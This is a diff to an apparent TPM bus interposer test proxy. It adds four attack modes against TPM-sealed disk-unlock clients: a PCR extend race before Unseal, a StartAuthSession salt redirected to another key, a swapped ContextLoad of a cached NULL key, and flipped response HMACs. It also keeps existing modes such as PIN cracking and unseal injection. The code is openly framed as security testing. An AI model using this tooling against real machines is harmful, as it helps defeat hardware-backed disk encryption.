@@ -113,7 +113,8 @@ import mutate as mt
 import tpmwire as tw
 
 MODES = ("record", "substitute", "loaded-key", "zgen-key", "owner-key", "pin-crack", "tamper", "reset", "drop",
-         "replay", "mutate", "inject-unseal", "hide-ek-certs", "forge-rc")
+         "replay", "mutate", "inject-unseal", "hide-ek-certs", "forge-rc", "extend-before", "redirect-salt",
+         "tamper-hmac", "swap-context")
 EK_CERT_NV_FIRST, EK_CERT_NV_LAST = 0x01C00000, 0x01C0FFFF
 SWTPM_CMD_INIT = 2
 SUBSTITUTE_HIERARCHIES = (tw.TPM_RH_NULL, tw.TPM_RH_OWNER, tw.TPM_RH_ENDORSEMENT)
@@ -424,6 +425,8 @@ class Proxy:
         self.zgen_keys = {}        # (x, y) -> Public of a NULL primary the TPM runs ECDH_ZGen with (zgen-key)
         # inject-unseal: what a normal unlock showed on the bus
         self.inject_primaries = {}  # transient handle -> TPM2B_PUBLIC (raw) of an owner CreatePrimary
+        self.context_swapped = False
+        self.null_context_loads = 0
         self.inject_target = None   # {conn, parent, parent_public, in_private, in_public}
         self.inject_pcrs = None     # TPML_PCR_SELECTION (raw) of the client's PolicyPCR
         self.inject_needs_auth = False
@@ -1133,6 +1136,14 @@ class Proxy:
                                        "hmac": hx(a.hmac)} for a in (cmd.auths if cmd else [])]})
             ctx = CommandContext(cmd) if cmd else None
             to_tpm = raw
+            if "redirect-salt" in self.modes and cmd is not None and cmd.known and cc == 0x176:
+                self.redirect_salt(cmd, seq)
+                to_tpm = raw = cmd.marshal()
+            if "swap-context" in self.modes and cmd is not None and cmd.known and cc == 0x161 \
+                    and not self.context_swapped and self.swap_context(upstream, cmd, seq):
+                to_tpm = raw = cmd.marshal()
+            if "extend-before" in self.modes and any(self.matches(spec, cc, n) for spec in self.args.extend_before):
+                self.extend_before(upstream, cc, n, seq)
             if cmd is not None and cmd.known:
                 try:
                     self.preprocess(upstream, cmd, ctx)
@@ -1188,8 +1199,92 @@ class Proxy:
             self.findings.write()
             return out, action
 
+    # -- issue 29: a PCR race, a redirected salt, a flipped response HMAC --
+
+    def extend_before(self, upstream, cc, n, seq):
+        """Another process extends a PCR just before the client's command reaches the TPM (between its
+        PolicyPCR and its Unseal, for --extend-before Unseal): TPM2_PCR_Extend(--extend-pcr) in a
+        password session (a PCR's authValue is empty), SHA-256 of a counter."""
+        digest = hashlib.sha256(b"extend-before %d" % seq).digest()
+        area = tw.u32(tw.TPM_RS_PW) + tw.u16(0) + bytes([1]) + tw.u16(0)
+        body = tw.u32(self.args.extend_pcr) + tw.u32(len(area)) + area + tw.u32(1) + tw.u16(0x000B) + digest
+        raw = tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x182) + body
+        rc = tw.read_header(self.transact(upstream, raw))[2]
+        self.attack(attack="extend-before", command=tw.cc_name(cc), occurrence=n, pcr=self.args.extend_pcr,
+                    rc=hh(rc), seq=seq)
+
+    def redirect_salt(self, cmd, seq):
+        """StartAuthSession's tpmKey pointed at another loaded key (--redirect-salt-to): the TPM decrypts
+        the client's salt with the wrong private key and derives a session key the client does not have.
+        Sessions of --redirect-salt-type only (policy: the unlock's PIN-bearing session)."""
+        if not cmd.handles or cmd.handles[0] == tw.TPM_RH_NULL:
+            return
+        r = tw.Reader(cmd.params)
+        r.tpm2b(64)
+        r.tpm2b(1024)
+        se = r.u8()
+        want = {"policy": (tw.TPM_SE_POLICY,), "hmac": (tw.TPM_SE_HMAC,), "any": (tw.TPM_SE_POLICY, tw.TPM_SE_HMAC)}
+        if se not in want[self.args.redirect_salt_type]:
+            return
+        self.attack(attack="redirect-salt", command="StartAuthSession", session_type=se,
+                    tpm_key=hh(cmd.handles[0]), redirected_to=hh(self.args.redirect_salt_to), seq=seq)
+        cmd.handles[0] = self.args.redirect_salt_to
+
+    def swap_context(self, upstream, cmd, seq):
+        """The Nth (--swap-context-at) ContextLoad of a NULL-hierarchy object (a client's saved NULL key, e.g.
+        tpmguard's per-boot cache) loads another key instead: an ECC P-256 restricted decrypt NULL
+        primary of the proxy's own (another unique), saved with ContextSave. The client's
+        ESYS_TR keeps the cached name and public area; the TPM holds another private key, so a
+        session salted to it has a session key the client does not have."""
+        r = tw.Reader(cmd.params)
+        r.take(8)
+        saved, hierarchy = r.u32(), r.u32()
+        if hierarchy != tw.TPM_RH_NULL or saved >> 24 != 0x80:
+            return False
+        self.null_context_loads += 1
+        if self.null_context_loads != self.args.swap_context_at:
+            return False
+        ecc = (tw.u16(0x0023) + tw.u16(0x000B) + tw.u32(0x00030072) + tw.u16(0) +
+               tw.u16(0x0006) + tw.u16(128) + tw.u16(0x0043) + tw.u16(0x0010) + tw.u16(0x0003) + tw.u16(0x0010) +
+               tw.tpm2b(b"swap-context".ljust(32, b"\0")) + tw.u16(0))
+        area = tw.u32(tw.TPM_RS_PW) + tw.u16(0) + bytes([1]) + tw.u16(0)
+        body = (tw.u32(tw.TPM_RH_NULL) + tw.u32(len(area)) + area + tw.tpm2b(tw.u16(0) + tw.u16(0)) +
+                tw.tpm2b(ecc) + tw.u16(0) + tw.u32(0))
+        resp = self.transact(upstream, tw.u16(tw.TPM_ST_SESSIONS) + tw.u32(10 + len(body)) + tw.u32(0x131) + body)
+        if tw.read_header(resp)[2] != 0:
+            self.findings.add("errors", {"seq": seq, "error": "swap-context: CreatePrimary rc %s" %
+                                         hh(tw.read_header(resp)[2])})
+            return False
+        handle = struct.unpack(">I", resp[10:14])[0]
+        saved_resp = self.transact(upstream, tw.build_command(0x162, handles=(handle,)))
+        self.transact(upstream, tw.build_command(0x165, params=tw.u32(handle)))
+        if tw.read_header(saved_resp)[2] != 0:
+            self.findings.add("errors", {"seq": seq, "error": "swap-context: ContextSave failed"})
+            return False
+        cmd.params = saved_resp[10:]
+        self.context_swapped = True
+        self.attack(attack="swap-context", command="ContextLoad", saved_handle=hh(saved), seq=seq)
+        return True
+
+    def tamper_hmac(self, cc, n, seq, out, cmd):
+        """Flips a bit of the first response HMAC of a successful response to CC (--tamper-hmac CC[:N])."""
+        if cmd is None or not any(self.matches(spec, cc, n) for spec in self.args.tamper_hmac):
+            return out
+        try:
+            resp = tw.Response(out, cc, len(cmd.auths))
+        except tw.WireError:
+            return out
+        for a in resp.auths if resp.parsed else []:
+            if a.hmac:
+                a.hmac = bytes([a.hmac[0] ^ 0x01]) + a.hmac[1:]
+                self.attack(attack="tamper-hmac", command=tw.cc_name(cc), occurrence=n, seq=seq)
+                return resp.marshal()
+        return out
+
     def active_modes(self, cc, n, seq, out, cmd=None):
         name = tw.cc_name(cc)
+        if "tamper-hmac" in self.modes and out is not None:
+            out = self.tamper_hmac(cc, n, seq, out, cmd)
         if "hide-ek-certs" in self.modes and cc == 0x17A and cmd is not None and len(cmd.params) >= 12:
             # GetCapability(TPM_CAP_HANDLES) from an index of the EK certificate range: answered
             # "no handles", as by a TPM without EK certificates, so that a client that trusts the
@@ -1597,6 +1692,18 @@ def parse_args(argv):
     p.add_argument("--mutate-spec", metavar="FILE",
                    help="mutate: JSON {seed, at, kind} re-read at every client connection; when it "
                         "changes, response counting starts again (one proxy serves many runs)")
+    p.add_argument("--extend-before", action="append", default=[],
+                   type=lambda s: parse_cc_count(s, "--extend-before"), metavar="CC[:N]",
+                   help="extend-before: extend --extend-pcr just before the Nth (default: every) command CC")
+    p.add_argument("--extend-pcr", type=int, default=11, help="extend-before: the PCR extended (default 11)")
+    p.add_argument("--redirect-salt-to", type=lambda s: int(s, 0), default=0x81000001, metavar="HANDLE",
+                   help="redirect-salt: the key StartAuthSession's tpmKey is pointed at (default 0x81000001)")
+    p.add_argument("--redirect-salt-type", choices=("policy", "hmac", "any"), default="policy",
+                   help="redirect-salt: which sessions (default: policy sessions)")
+    p.add_argument("--swap-context-at", type=int, default=1, metavar="N",
+                   help="swap-context: swap the Nth ContextLoad of a NULL-hierarchy object (default 1)")
+    p.add_argument("--tamper-hmac", action="append", default=[], type=lambda s: parse_cc_count(s, "--tamper-hmac"),
+                   metavar="CC[:N]", help="tamper-hmac: flip a bit of the response HMAC of the Nth (default: every) CC")
     p.add_argument("--wordlist", help="extra PIN candidates, one per line (after 0000-9999)")
     p.add_argument("--pin-salt", type=bytes.fromhex, metavar="HEX",
                    help="PIN salt: adds the PBKDF2-HMAC-SHA256(pin, salt, 10000) transforms (systemd >= 253)")
@@ -1618,6 +1725,10 @@ def parse_args(argv):
         p.error("drop mode needs --drop CC[:N]")
     if "mutate" in args.mode and args.mutate_at is None and not args.mutate_spec:
         p.error("mutate mode needs --mutate-at N or --mutate-spec FILE")
+    if "extend-before" in args.mode and not args.extend_before:
+        p.error("extend-before mode needs --extend-before CC[:N]")
+    if "tamper-hmac" in args.mode and not args.tamper_hmac:
+        p.error("tamper-hmac mode needs --tamper-hmac CC[:N]")
     if "replay" in args.mode and not args.replay:
         p.error("replay mode needs --replay CC[:N]")
     if not os.path.exists(args.upstream):
